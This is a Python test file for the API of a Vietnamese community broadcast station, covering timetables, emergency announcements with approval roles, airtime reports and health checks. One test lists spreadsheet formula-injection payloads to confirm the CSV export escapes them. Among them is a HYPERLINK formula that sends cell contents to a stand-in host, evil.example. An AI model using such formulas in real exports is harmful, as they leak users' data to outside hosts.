"""Timetable and now-playing passthrough, stop, announcements, airtime reports, health."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

from broadcast.programs import Segment
from broadcast.scheduling.model import Outcome, Priority
from broadcast.station.control import AnnouncementView, OnAir, TimetableEntry
from tests.api.conftest import Api
from tests.api.helpers import create_script

T0 = datetime(2031, 6, 2, 23, 0, tzinfo=UTC)  # 06:00 on 3 June, local


def entry(start: datetime, status: str = "planned") -> TimetableEntry:
    return TimetableEntry(
        slot_id="sang",
        announcement_id=None,
        program_id="ban-tin",
        program_title="Bản tin",
        topic="cds",
        priority=Priority.NORMAL,
        start=start,
        original_start=start,
        duration_seconds=300.0,
        status=status,  # type: ignore[arg-type]
    )


def test_timetable_passes_local_dates_to_the_station(api: Api) -> None:
    api.station.entries = [entry(T0, "aired"), entry(T0 + timedelta(days=1))]
    response = api.client.get(
        "/api/timetable?from=2031-06-03&to=2031-06-03", headers=api.auth("operator")
    )
    assert response.status_code == 200
    [(args, _)] = api.station.called("timetable")
    assert args == (
        datetime(2031, 6, 2, 17, 0, tzinfo=UTC),
        datetime(2031, 6, 3, 17, 0, tzinfo=UTC),
    )
    [only] = response.json()
    assert only["status"] == "aired"
    assert only["start"] == "2031-06-03T06:00:00+07:00"
    assert only["priority"] == "normal"
    too_long = api.client.get(
        "/api/timetable?from=2031-01-01&to=2031-12-31", headers=api.auth("operator")
    )
    assert too_long.status_code == 422
    backwards = api.client.get(
        "/api/timetable?from=2031-06-03&to=2031-06-01", headers=api.auth("operator")
    )
    assert backwards.json()["code"] == "bad_range"


def test_timetable_defaults_to_a_week(api: Api) -> None:
    api.client.get("/api/timetable", headers=api.auth("operator"))
    [(args, _)] = api.station.called("timetable")
    assert args[1] - args[0] == timedelta(days=7)


def test_now_and_stop(api: Api) -> None:
    api.station.entries = [entry(T0)]
    api.station.playing = OnAir(
        slot_id=None,
        announcement_id=4,
        program_id="thong-bao",
        program_title="Thông báo",
        priority=Priority.EMERGENCY,
        scheduled_start=T0,
        actual_start=T0 + timedelta(seconds=0.1),
        duration_seconds=60.0,
    )
    now = api.client.get("/api/now", headers=api.auth("operator")).json()
    assert now["on_air"]["priority"] == "emergency"
    assert [e["slot_id"] for e in now["next"]] == ["sang"]
    stop = api.client.post("/api/onair/stop", headers=api.auth("operator"))
    assert stop.json() == {"stopped": True}
    assert api.client.get("/api/now", headers=api.auth("operator")).json()["on_air"] is None


def test_operator_may_announce_an_approved_script(api: Api) -> None:
    script = create_script(api, approve=True, text="Bão số 3 sắp đổ bộ.")
    response = api.client.post(
        "/api/announcements",
        json={"script_id": script["id"], "priority": "emergency", "repeat": 3, "every_minutes": 30},
        headers=api.auth("operator"),
    )
    assert response.status_code == 201, response.text
    body = response.json()
    assert body["script_id"] == script["id"]
    assert len(body["starts"]) == 3
    [(args, kwargs)] = api.station.called("announce")
    assert args == (body["program_id"], Priority.EMERGENCY)
    assert kwargs == {
        "repeat": 3, "every_minutes": 30.0, "ordered_by": "operator", "clusters": None
    }
    program = api.store.programs.get(body["program_id"])
    assert program.segments == (Segment.stored_script(script["id"]),)
    cancel = api.client.delete(f"/api/announcements/{body['id']}", headers=api.auth("operator"))
    assert cancel.json() == {"cancelled": True}


def test_operator_may_not_announce_a_draft_or_typed_text(api: Api) -> None:
    draft = create_script(api)
    refused = api.client.post(
        "/api/announcements", json={"script_id": draft["id"]}, headers=api.auth("operator")
    )
    assert refused.status_code == 422
    assert refused.json()["code"] == "script_not_approved"
    typed = api.client.post(
        "/api/announcements", json={"text": "Lũ về, sơ tán ngay."}, headers=api.auth("operator")
    )
    assert typed.status_code == 403
    editor = api.client.post(
        "/api/announcements", json={"text": "Lũ về, sơ tán ngay."}, headers=api.auth("editor")
    )
    assert editor.status_code == 403
    assert api.station.called("announce") == []
    assert api.store.scripts.count() == 1


def test_approver_announces_typed_text(api: Api) -> None:
    response = api.client.post(
        "/api/announcements",
        json={"text": "Lũ về, bà con sơ tán ngay.", "title": "Cảnh báo lũ", "priority": "priority"},
        headers=api.auth("approver"),
    )
    assert response.status_code == 201, response.text
    script = api.store.scripts.get(response.json()["script_id"])
    assert script.approved and script.approved_by == "approver"
    assert script.title == "Cảnh báo lũ"
    [(args, _)] = api.station.called("announce")
    assert args[1] is Priority.PRIORITY
    repeat_without_gap = api.client.post(
        "/api/announcements", json={"text": "Lũ.", "repeat": 2}, headers=api.auth("approver")
    )
    assert repeat_without_gap.status_code == 422


def _log(api: Api, start: datetime, minutes: float, topic: str, outcome: Outcome) -> None:
    api.store.as_run.append(
        program_id="p",
        priority="normal",
        scheduled_start=start,
        actual_start=start,
        end=start + timedelta(minutes=minutes),
        outcome=outcome,
        topic=topic,
        program_title="P",
    )


def test_airtime_report_json_and_csv(api: Api) -> None:
    _log(api, datetime(2031, 3, 1, 0, 0, tzinfo=UTC), 10, "Chuyển đổi số", Outcome.AIRED)
    _log(api, datetime(2031, 3, 2, 0, 0, tzinfo=UTC), 5, "Chuyển đổi số", Outcome.AIRED)
    _log(api, datetime(2031, 3, 3, 0, 0, tzinfo=UTC), 7, "Chuyển đổi số", Outcome.MISSED)
    # 31 March 20:00 UTC is 1 April 03:00 local: counts in April.
    _log(api, datetime(2031, 3, 31, 20, 0, tzinfo=UTC), 4, "Y tế", Outcome.AIRED)
    headers = api.auth("operator")
    rows = api.client.get("/api/reports/airtime?from=2031-03&to=2031-04", headers=headers).json()
    assert rows == [
        {"month": "2031-03", "topic": "Chuyển đổi số", "cluster": "local", "minutes": 15.0,
         "broadcasts": 2, "topic_name": "Chuyển đổi số", "source": "station"},
        {"month": "2031-04", "topic": "Y tế", "cluster": "local", "minutes": 4.0,
         "broadcasts": 1, "topic_name": "Y tế", "source": "station"},
    ]
    response = api.client.get("/api/reports/airtime.csv?from=2031-03&to=2031-04", headers=headers)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf")
    # For Excel set to Vietnamese: ";" between fields, decimal comma, Vietnamese headers.
    text = response.content.decode("utf-8-sig")
    parsed = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert parsed == [
        ["Tháng", "Chuyên mục", "Nơi phát", "Nguồn", "Số phút", "Số buổi phát"],
        ["03/2031", "Chuyển đổi số", "Loa của đài", "Chương trình của đài", "15,0", "2"],
        ["04/2031", "Y tế", "Loa của đài", "Chương trình của đài", "4,0", "1"],
        ["Tổng cộng", "", "", "", "19,0", "3"],
    ]
    march = api.client.get("/api/reports/airtime?from=2031-03&to=2031-03", headers=headers)
    assert [r["month"] for r in march.json()] == ["2031-03"]
    assert api.client.get("/api/reports/airtime?from=2031-13", headers=headers).status_code == 422


def test_airtime_csv_never_hands_a_spreadsheet_a_formula(api: Api) -> None:
    topics = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm")', "+84912", "-1+1", "@SUM(1)",
              "\t=1+1", "Y tế", "Chuyển đổi số = tương lai"]  # fmt: skip
    for day, topic in enumerate(topics, start=1):
        _log(api, datetime(2031, 5, day, 0, 0, tzinfo=UTC), 3, topic, Outcome.AIRED)
    headers = api.auth("operator")
    response = api.client.get("/api/reports/airtime.csv?from=2031-05&to=2031-05", headers=headers)
    parsed = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = {row[1] for row in parsed[1:-1]}  # (the last row is the total)
    assert cells == {
        '\'=HYPERLINK("http://evil.example/?d="&A1,"Bấm")',
        "'+84912",
        "'-1+1",
        "'@SUM(1)",
        "'\t=1+1",
        "Y tế",
        "Chuyển đổi số = tương lai",
    }
    # The JSON report is data, not a spreadsheet: topics as they are.
    rows = api.client.get("/api/reports/airtime?from=2031-05&to=2031-05", headers=headers).json()
    assert {r["topic"] for r in rows} == set(topics)


def test_health_is_public_and_says_degraded(api: Api) -> None:
    assert api.client.get("/api/health").json()["status"] == "ok"
    api.station.health_report = type(api.station.health_report)(
        scheduler_running=True,
        sound_device=None,
        sound_device_error="không thấy card âm thanh",
        database=True,
        engines={"espeak": True},
    )
    body = api.client.get("/api/health").json()
    assert body["status"] == "degraded"
    assert body["sound_device_error"] == "không thấy card âm thanh"


def test_devices(api: Api) -> None:
    devices = api.client.get("/api/devices", headers=api.auth("operator")).json()
    assert devices[0]["name"] == "loa_xa"


def test_timetable_answer_is_shared_briefly_and_dropped_on_changes(api: Api) -> None:
    api.station.entries = [entry(T0)]
    url = "/api/timetable?from=2031-06-03&to=2031-06-03"
    first = api.client.get(url, headers=api.auth("operator")).json()
    second = api.client.get(url, headers=api.auth("editor")).json()
    assert first == second
    assert len(api.station.called("timetable")) == 1
    assert api.client.post("/api/onair/stop", headers=api.auth("operator")).status_code == 200
    api.client.get(url, headers=api.auth("operator"))
    assert len(api.station.called("timetable")) == 2
    api.client.post(
        "/api/scripts",
        json={"title": "T", "text": "Chào.", "topic": ""},
        headers=api.auth("editor"),
    )
    create_script(api, approve=True)  # approving changes what may air
    api.client.get(url, headers=api.auth("operator"))
    assert len(api.station.called("timetable")) == 3


def test_active_announcements_are_listed_for_every_device(api: Api) -> None:
    body = api.client.post(
        "/api/announcements", json={"text": "Lũ về, sơ tán ngay.", "title": "Lũ quét"},
        headers=api.auth("approver"),
    ).json()
    at = datetime.now(UTC) + timedelta(minutes=30)
    api.station.active_announcements[:] = [
        AnnouncementView(body["id"], body["program_id"], Priority.EMERGENCY, [at])
    ]
    listed = api.client.get("/api/announcements", headers=api.auth("operator"))
    assert listed.status_code == 200
    [row] = listed.json()
    assert row["id"] == body["id"] and row["priority"] == "emergency"
    assert row["title"] == "Thông báo: Lũ quét"
    assert datetime.fromisoformat(row["starts"][0]) == at
